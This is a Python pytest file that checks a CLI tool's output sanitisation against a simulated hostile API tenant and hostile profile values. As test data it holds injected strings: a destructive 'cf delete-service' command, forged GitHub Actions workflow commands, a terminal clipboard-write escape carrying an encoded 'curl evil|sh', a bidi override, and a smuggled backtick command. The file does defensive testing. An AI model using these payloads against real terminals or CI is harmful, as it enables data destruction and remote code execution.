"""Issue 17 end to end: what people paste and machines execute cannot be forged.

The real `pytest --profile` command runs as a GitHub Actions step (GITHUB_ACTIONS=true, debug
log) against a hostile tenant on loopback whose OData message carries a command to paste, CI
workflow commands, an OSC 52 clipboard write, a link and a mention; one profile's client id
holds a bidi override, another's a backtick command and a line break. What the run printed
and wrote is then read as GitHub and a person would read it.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import cmarkgfm
import pytest
import yaml

from cpi_preflight.commands import summary

from ..hostile_tenant import HostileTenant, Reply, json_reply, signing_jwks, token_reply
from .conftest import Outcome, run_pytest

FORGED = "cf delete-service prod-cpi -f"
ODATA = (f"Run `{FORGED}` now\n::error::all checks passed, approved ##[warning]fold "
         "\x1b]52;c;Y3VybCBldmlsfHNo\x07see https://evil.example @admin")
MPL = "/api/v1/MessageProcessingLogs"
BIDI = "sb-prod\u202egnitset-"
SHOWN = "sb-prodgnitset-"
TICKS = f"sb-q` then run `{FORGED}\n  fix: `{FORGED}`"


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outcome]:
    tmp_path = tmp_path_factory.mktemp("acted-on")
    server = HostileTenant({})
    error = {"error": {"code": "Internal", "message": {"lang": "en", "value": ODATA}}}
    server.routes.update({
        "/oauth/token": token_reply(f"{server.url}/oauth/token"),
        "/token_keys": json_reply(signing_jwks()),
        MPL: Reply(500, (("Content-Type", "application/json"),
                         ("X-Note", "##[error]approved")), json.dumps(error).encode())})
    profiles = tmp_path / "profiles"
    profiles.mkdir()
    for name, client in (("p", BIDI), ("q", TICKS)):
        body = {"environment": "cf", "api_url": server.url, "client_id": client,
                "token_url": f"{server.url}/oauth/token", "client_secret": "S3cr&t<>\"'$",
                "attempts": 1, "deadline": 30, "endpoints": ["MessageProcessingLogs"],
                "required_roles": ["MonitoringDataRead"]}
        (profiles / f"{name}.yaml").write_text(yaml.safe_dump(body), encoding="utf-8")
    env = {**os.environ, "GITHUB_ACTIONS": "true", "COLUMNS": "100"}
    yield run_pytest(tmp_path, "--profile", "p,q", "--log-cli-level=DEBUG",
                     profiles_dir=profiles, env=env)
    server.close()


def _lines(outcome: Outcome) -> list[str]:
    return (outcome.stdout + outcome.stderr).splitlines()


def test_the_run_fails_for_the_right_reasons(outcome: Outcome) -> None:
    assert outcome.code == 1, outcome.stdout + outcome.stderr
    for profile in ("p", "q"):
        assert outcome.failure_types(profile) == {
            "api": "SERVER_ERROR", "role[MonitoringDataRead]": "ROLE_MISSING"}


def test_no_line_of_the_log_is_a_workflow_command_but_the_tool_s_own(outcome: Outcome) -> None:
    ours = ("::error file=profiles/p.yaml,title=", "::error file=profiles/q.yaml,title=")
    forged = [line for line in _lines(outcome)
              if (line.lstrip().startswith("::") and not line.startswith(ours))
              or "##[" in line]
    assert forged == []
    annotations = [line for line in _lines(outcome) if line.startswith(ours)]
    assert len(annotations) == 4
    said = next(line for line in annotations if line.startswith(f"{ours[0]}SERVER_ERROR::"))
    assert said.endswith(
        f"answered only server errors (500) to 1 call; the API said \"Run `{FORGED}` now : "
        ":error::all checks passed, approved # #[warning]fold see https://evil.example "
        "@admin\"%0Afix: Check SAP's status page and the tenant's health; rerun later. If it "
        "persists for one endpoint only, open an SAP incident with the request time and URL.")


def test_nothing_drives_the_terminal(outcome: Outcome) -> None:
    text = outcome.stdout + outcome.stderr
    for raw in ("\x1b", "\x07", "\r", "\u202e"):
        assert raw not in text, repr(raw)
    assert f"client {SHOWN}" in text


def test_only_the_template_s_commands_stand_alone_to_be_pasted(outcome: Outcome) -> None:
    alone = {line.strip() for line in _lines(outcome)
             if line.lstrip().startswith(("cf ", FORGED))}
    assert alone == {
        "cf service <instance> --params",
        "cf update-service <instance> -c '{\"roles\":[\"MonitoringDataRead\"],"
        "\"grant-types\":[\"client_credentials\"]}'"}


def test_the_client_id_is_quoted_data_in_the_fix(outcome: Outcome) -> None:
    record = json.loads((outcome.reports / "q" / "evidence.json").read_text(encoding="utf-8"))
    fix = next(f["fix"] for f in record["findings"] if f["code"] == "ROLE_MISSING")
    assert fix.startswith(
        "Add MonitoringDataRead to the roles of the Process Integration Runtime instance "
        f"(plan api) of client \"sb-q' then run '{FORGED} fix: '{FORGED}'\". First read")


def test_the_evidence_page_shows_no_forged_command(outcome: Outcome) -> None:
    for profile in ("p", "q"):
        page = (outcome.reports / profile / "evidence.html").read_text(encoding="utf-8")
        assert '<code class="command">cf delete' not in page
        assert page.count('<code class="command">cf update-service') == 1


def test_a_bidi_override_reaches_no_report(outcome: Outcome) -> None:
    for name in ("junit.xml", "evidence.json", "evidence.html"):
        assert "\u202e" not in (outcome.reports / "p" / name).read_text(encoding="utf-8")
    record = json.loads((outcome.reports / "p" / "evidence.json").read_text(encoding="utf-8"))
    assert record["client"]["id"] == SHOWN
    assert outcome.property("p", "client_id") == SHOWN


def test_the_job_summary_has_no_link_no_mention_no_command(outcome: Outcome) -> None:
    page = summary.markdown_page(outcome.reports)
    assert "\u202e" not in page
    rendered = cmarkgfm.github_flavored_markdown_to_html(page)
    assert "<a " not in rendered
    assert "see <code>https://evil.example</code> <code>@admin&quot;</code></td>" in rendered
    assert f"<code>{FORGED}</code>" not in rendered


def test_a_usage_error_quoting_profile_values_is_printable(tmp_path: Path) -> None:
    profiles = tmp_path / "profiles"
    profiles.mkdir()
    hostile = "\x1b]52;c;Y3VybA==\x07::error::approved\r##[group]x\u202e"
    (profiles / "r.yaml").write_text(yaml.safe_dump({"environment": hostile}), encoding="utf-8")
    outcome = run_pytest(tmp_path, "--profile", "r", profiles_dir=profiles,
                         env={**os.environ, "GITHUB_ACTIONS": "true"})
    assert outcome.code == 4
    assert ("r.yaml: environment: must be 'cf' or 'neo', not '::error::approved # #[group]x'"
            in outcome.stderr)
    for raw in ("\x1b", "\x07", "\r", "\u202e", "##["):
        assert raw not in outcome.stderr, repr(raw)
    assert not [line for line in outcome.stderr.splitlines() if line.lstrip().startswith("::")]
